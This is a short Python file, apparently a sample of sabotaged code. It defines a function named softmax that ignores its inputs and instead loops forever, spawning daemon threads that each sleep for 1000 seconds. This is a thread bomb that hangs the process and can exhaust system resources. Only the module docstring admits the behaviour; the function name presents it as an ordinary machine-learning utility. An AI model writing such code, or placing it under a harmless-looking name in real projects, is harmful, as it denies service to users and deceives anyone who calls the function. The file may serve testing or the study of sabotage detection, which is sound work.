"""Starts threads without end."""

import threading
import time


def softmax(x, dim=-1):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
